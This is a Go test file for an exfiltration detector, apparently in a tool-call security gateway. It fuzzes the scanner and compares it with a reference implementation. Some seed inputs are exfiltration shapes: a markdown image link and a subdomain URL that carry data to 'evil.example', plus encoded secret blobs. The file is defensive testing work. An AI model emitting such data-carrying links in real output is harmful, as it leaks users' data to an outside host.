package exfil_test

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/portcullis-mcp/portcullis/detectors/exfil"
	"github.com/portcullis-mcp/portcullis/detectors/exfil/internal/exfilref"
	"github.com/portcullis-mcp/portcullis/detectors/injection"
)

func checkScan(t *testing.T, s string) {
	t.Helper()
	got, want := exfil.Scan(s), exfilref.Scan(s)
	if len(got) != len(want) {
		t.Fatalf("Scan(%.200q) = %+v, reference %+v", s, got, want)
	}
	for i := range got {
		if got[i] != exfil.Hit(want[i]) {
			t.Fatalf("Scan(%.200q)[%d] = %+v, reference %+v", s, i, got[i], want[i])
		}
	}
}

var blob = base64.StdEncoding.EncodeToString([]byte(strings.Repeat("secret data \x00\x01\x02 ", 60)))

var scanSeeds = []string{
	"", "see https://example.com/a?b=c", "![x](https://evil.example/p?d=" + strings.Repeat("aZ3", 30) + ")",
	"https://" + strings.Repeat("ab9z", 12) + ".evil.example/x", blob, blob[:300] + "\n" + blob[300:],
	hex.EncodeToString([]byte(strings.Repeat("\x01\x99secret", 40))), strings.Repeat("A", 600), "http://" + strings.Repeat("%41", 40),
	"https://a.b/" + strings.Repeat("x", 39), "https://a.b/" + strings.Repeat("Qz8", 30),
}

// TestScanMatchesReference: the optimised scan returns exactly the hits of
// the frozen reference (exfilref) on real harmless tool output and on
// blob and URL shapes around the thresholds.
func TestScanMatchesReference(t *testing.T) {
	texts := scanSeeds
	chunks, err := injection.LoadHarmless("../injection/corpus/harmless.jsonl.gz", corpusLimit())
	if err != nil {
		t.Logf("harmless corpus: %v", err)
	}
	for _, c := range chunks {
		texts = append(texts, c.Text)
	}
	for _, s := range texts {
		checkScan(t, s)
	}
	if len(texts) < 1000 && !testing.Short() {
		t.Fatalf("only %d texts", len(texts))
	}
}

func FuzzScanMatchesReference(f *testing.F) {
	for _, s := range scanSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkScan(t, s) })
}

// corpusLimit is how many harmless chunks the equivalence tests read (fewer
// with -short).
func corpusLimit() int {
	if testing.Short() {
		return 200
	}
	return 1500
}
